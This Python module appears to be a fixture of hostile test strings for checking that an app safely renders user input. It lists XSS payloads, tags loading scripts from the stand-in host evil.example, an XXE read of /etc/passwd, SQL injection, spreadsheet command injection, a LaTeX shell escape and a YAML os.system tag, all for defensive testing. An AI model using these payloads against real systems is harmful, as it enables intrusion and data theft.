# ruff: noqa: E501
"""Texts that somebody might put where a name or a question belongs: to act, to break out, to break the page, to mislead."""

from __future__ import annotations

LONG = 10_000

ACTIVE = {
    "script": "<script>window.hurt=1;alert(1)</script>",
    "script in capitals": "<ScRiPt SRC=https://evil.example/x.js></sCrIpT>",
    "script that ends another": "</script><script>window.hurt=2</script>",
    "image with a handler": "<img src=x onerror=window.hurt=3>",
    "image with slashes": "<img/src=x/onerror=window.hurt=4//",
    "drawing with a handler": "<svg/onload=window.hurt=5><path d='M0 0'/></svg>",
    "drawing with a script": "<svg><script>window.hurt=6</script></svg>",
    "drawing that animates": "<svg><animate onbegin=window.hurt=7 attributeName=x dur=1s></svg>",
    "frame": "<iframe src=javascript:parent.hurt=8 srcdoc='<script>parent.hurt=8</script>'></iframe>",
    "object": "<object data=https://evil.example/x.swf><embed src=https://evil.example/y></object>",
    "form": "<form action=https://evil.example><input name=q autofocus onfocus=window.hurt=9><button>Go</button></form>",
    "style": "<style>*{display:none}</style>",
    "style that loads": "<style>@import url(https://evil.example/x.css);</style>",
    "style attribute": '<b style="position:fixed;inset:0;background:url(https://evil.example/x)">cover</b>',
    "expression": '<b style="width:expression(alert(1))">old</b>',
    "base": "<base href=https://evil.example/>",
    "refresh": '<meta http-equiv=refresh content="0;url=https://evil.example">',
    "stylesheet": "<link rel=stylesheet href=https://evil.example/x.css>",
    "details that toggles": "<details open ontoggle=window.hurt=10><summary>x</summary>y</details>",
    "formula element": "<math><maction actiontype=statusline xlink:href=javascript:window.hurt=11>x</maction></math>",
    "template": "<template shadowrootmode=open><script>window.hurt=12</script></template>",
    "custom element": '<x-maths n="0"></x-maths> $x$ <x-maths n="0"></x-maths>',
    "nested marks": "<scr<script>ipt>window.hurt=13</scr</script>ipt>",
    "escaped twice": "&lt;script&gt;window.hurt=14&lt;/script&gt; &amp;lt;b&amp;gt;",
    "characters by number": "&#60;img src=x onerror=window.hurt=15&#62; &#x3c;b&#x3e;",
}
LINKS = {
    "javascript link": "[press](javascript:window.hurt=16)",
    "javascript in odd letters": "[press](JaVa\tScRiPt&colon;window.hurt=17)",
    "javascript by numbers": "[press](&#106;avascript&#x3a;window.hurt=18)",
    "javascript link in HTML": "<a href=' javascript:window.hurt=19'>press</a>",
    "data link": "[press](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "vbscript link": "[press](vbscript:msgbox(1))",
    "file link": "[press](file:///etc/passwd)",
    "link without a scheme": "[press](//evil.example/x)",
    "link by reference": "[press]\n\n[press]: javascript:window.hurt=20",
    "link in angles": "<javascript:window.hurt=21>",
    "link with a handler": '[press](https://a.example" onmouseover="window.hurt=22)',
    "link with a title": "[press](https://a.example \"t' onclick='window.hurt=23\")",
    "code that holds a link": "`[press](javascript:window.hurt=24)`",
    "escaped link": r"\[press\](javascript:window.hurt=25)",
    "picture from the web": "![pixel](https://evil.example/pixel.png)",
    "picture with a handler": "![x](x onerror=window.hurt=26)",
    "footnote": "[^1]\n\n[^1]: <script>window.hurt=27</script>",
}
BREAKOUTS = {
    "style ended": "</style><b>out</b>",
    "text area ended": "</textarea></title></noscript></select>out",
    "comment begun": "<!-- from here on",
    "comment that ends at once": "<!--><img src=x onerror=window.hurt=28>-->",
    "character data": "<![CDATA[<b>x</b>]]>",
    "end of character data": "]]><script>window.hurt=29</script><![CDATA[",
    "processing": "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    "unbalanced marks": "</div></li></ul></main><b><i>never closed",
    "marks in disorder": "<b><i>bold</b> both</i> <p><table><tr>",
    "mark that does not end": '<b title="never',
    "brackets of all kinds": "<<<>>> >< </> <!> <? &&& &nosuch; &#0; &#x110000;",
    "quotes": "\"'`\"\"''``'\">\"'><",
    "attribute broken out of": '" onmouseover="window.hurt=30" x="',
    "attribute in single quotes": "' onfocus='window.hurt=31' tabindex='0",
    "code fence": '```html" onclick="window.hurt=32\n<b>x</b>\n```',
    "diagram fence": "```mermaid\n<script>window.hurt=33</script>\n```\n",
}
OTHER_LANGUAGES = {
    "formula that links": r"$\href{javascript:window.hurt=34}{x}$",
    "formula that reads a file": r"$\input{/etc/passwd}\includegraphics{x}$",
    "formula that breaks out": '$x" onload="window.hurt=35$',
    "formula that ends the drawing": "$x</svg><script>window.hurt=36</script>$",
    "lonely dollars": "$ $$ $x $$y$$$ costs $5 or $6",
    "environment": "\\begin{document}\\write18{ls}\\end{document}",
    "template words": "{{7*7}} {% raw %} ${7*7} <%= 7*7 %> #{7*7}",
    "format words": "{0.__class__} {x!r} {} %s %(x)d %n",
    "spreadsheet formula": "=cmd|' /C calc'!A0",
    "spreadsheet sum": "+1+1;@SUM(A1:A9)\t-2+3",
    "seed syntax": "key: [a, b] # no comment\n- item: &anchor *anchor !!python/object:os.system",
    "quiz syntax": "::t:: [html] {1:SHORTANSWER:=x#y~z} ->  // = %100% #### *a) [ ] [*]",
    "backslashes": "\\ \\\\ \\n \\u003cscript\\u003e \\x3c \\\" \\'",
    "name of the machinery": "__proto__ constructor toString hasOwnProperty lesson-state",
    "query": "'; DROP TABLE events; --",
    "style value": "url(javascript:alert(1)) expression(alert(1)) } * { color: red",
    "markdown blocks": "# Heading\n\n> quote\n\n- list\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n---",
    "emphasis left open": "**bold *both _under ~~struck `code",
}
LETTERS = {
    "Hebrew": "האם הרגל משנה את הגב? (כן, 5%)",
    "Arabic": "هل يغيّر النعل ألم الظهر؟ (نعم، ٥٪)",
    "both directions": "abc אבג 123 (דהו) def",
    "combining marks": "Z" + "\u0301\u0316\u0327\u0334" * 40 + "algo",
    "no width": "a\u200bb\u200cc\u200dd\ufeffe\u2060f",
    "emoji": "👩🏽‍⚕️🏴󠁧󠁢󠁥󠁮󠁧󠁿🦶🏿👨‍👩‍👧‍👦1️⃣",
    "lookalikes": "раураl ѕсriрt ＜script＞alert(1)＜/script＞",
    "other scripts": "足と背中 발과 허리 पैर और पीठ เท้าและหลัง",
    "line ends": "one\r\ntwo\rthree\nfour\u2028five\u2029six\x85seven",
    "long without a space": "x" * LONG,
    "long with spaces": "word " * (LONG // 5),
    "long mark": "<" * LONG,
    "many brackets": "[" * 300 + "(" * 300,
    "many stars": "*a **a " * 300,
    "deep quotes": ">" * 300 + " x",
}
#: What no page can show, or what turns the words behind it: refused wherever it stands.
REFUSED = {
    "nothing": "\x00",
    "bell and escape": "\x07\x1b[31mred\x1b[0m",
    "delete": "a\x7fb",
    "half a character": "a\ud800b",
    "turned round": "safe \u202egnp.exe",
    "turned and set apart": "a\u2066b\u2067c",
    "nobody's": "a\ue000b",
    "no character": "a\ufffeb\uffff",
}
#: Nothing to read.
EMPTY = {"empty": "", "blank": " \t\n ", "no ink": "\u200b\u2060"}

SHOWN = {**ACTIVE, **LINKS, **BREAKOUTS, **OTHER_LANGUAGES, **LETTERS}
STRINGS = {**SHOWN, **REFUSED, **EMPTY}
